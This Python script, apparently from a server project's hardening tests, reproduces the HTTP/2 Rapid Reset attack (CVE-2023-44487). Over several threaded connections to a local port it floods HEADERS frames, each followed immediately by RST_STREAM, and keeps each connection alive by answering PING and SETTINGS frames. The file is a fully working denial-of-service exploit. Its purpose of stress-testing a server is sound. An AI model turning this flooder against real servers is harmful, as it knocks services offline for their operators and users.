"""The attack of CVE-2023-44487 as a process: HEADERS and RST_STREAM at full speed, over some connections.

    python -m tests.hardening.rapid_reset PORT CONNECTIONS SECONDS RPC

Prints how many streams were begun. Ends after SECONDS or `STREAMS_MAX` a connection.
"""

import contextlib
import queue
import socket
import struct
import sys
import threading
import time

from tests.hardening.frames import (
    ACK,
    CANCEL,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Frames,
    frame,
    request_fields,
)

STREAMS_MAX = 5_000_000
STREAMS_PER_SEND = 200


def main() -> None:
    port, connections, seconds, rpc = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    begun: queue.SimpleQueue[int] = queue.SimpleQueue()
    end_s = time.monotonic() + seconds
    attackers = [
        threading.Thread(target=lambda: begun.put(attack(port, end_s, request_fields(rpc)))) for _ in range(connections)
    ]
    for attacker in attackers:
        attacker.start()
    print(sum(begun.get() for _ in attackers))


def attack(port: int, end_s: float, fields: bytes) -> int:
    """Resets streams on one connection; gives how many."""
    answers: queue.SimpleQueue[bytes] = queue.SimpleQueue()
    # Heads are the same for every stream, so only the stream's number is made anew.
    headers_head = frame(HEADERS, END_HEADERS, 0, fields)[:5]
    reset_head = frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL))[:5]
    reset = struct.pack(">I", CANCEL)
    begun = 0
    with socket.create_connection(("127.0.0.1", port)) as connection:
        reader = threading.Thread(target=keep_alive, args=(connection, answers), daemon=True)
        reader.start()
        with contextlib.suppress(OSError):
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            while time.monotonic() < end_s and begun < STREAMS_MAX:
                parts = [answers.get() for _ in range(answers.qsize())]
                for number in range(begun, begun + STREAMS_PER_SEND):
                    stream = struct.pack(">I", 2 * number + 1)
                    parts += (headers_head, stream, fields, reset_head, stream, reset)
                connection.sendall(b"".join(parts))
                begun += STREAMS_PER_SEND
            connection.shutdown(socket.SHUT_RDWR)
    return begun


def keep_alive(connection: socket.socket, answers: queue.SimpleQueue[bytes]) -> None:
    """Answers PING and SETTINGS, so that the connection is kept."""
    received = Frames()
    with contextlib.suppress(OSError):
        while data := connection.recv(65_536):
            for kind, flags, _, payload in received.take(data):
                if kind in {PING, SETTINGS} and not flags & ACK:
                    answers.put(frame(kind, ACK, 0, payload if kind == PING else b""))


if __name__ == "__main__":
    main()
